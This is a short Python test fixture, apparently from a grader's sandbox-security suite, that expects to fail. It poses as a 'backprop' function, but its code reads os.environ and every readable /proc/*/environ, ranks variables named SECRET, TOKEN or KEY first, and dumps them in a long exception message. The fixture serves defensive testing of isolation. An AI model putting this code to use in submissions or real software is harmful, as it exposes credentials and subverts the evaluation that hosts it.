# attack: leak
# expect: fail
# must: show none of the grader's environment: the child's is scrubbed, and the message is capped
"""raises an exception of 2,000+ characters holding os.environ, /proc/self/environ and the
environ of every process it can read, anything named like a secret first"""

import os


def _environments():
    found = [f"os.environ: {dict(os.environ)}"]
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() or p == "self"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found.append(f"/proc/{pid}/environ: {handle.read()!r}")
        except OSError as error:
            found.append(f"/proc/{pid}/environ: {type(error).__name__}")
    return found


def backprop(X, y, weights, biases):
    everything = _environments()
    secrets = [v for k, v in os.environ.items() if any(w in k for w in ("SECRET", "TOKEN", "KEY"))]
    text = f"secrets {secrets} | " + " | ".join(everything)
    raise RuntimeError((text + " ") * max(1, 2500 // max(1, len(text)) + 1))
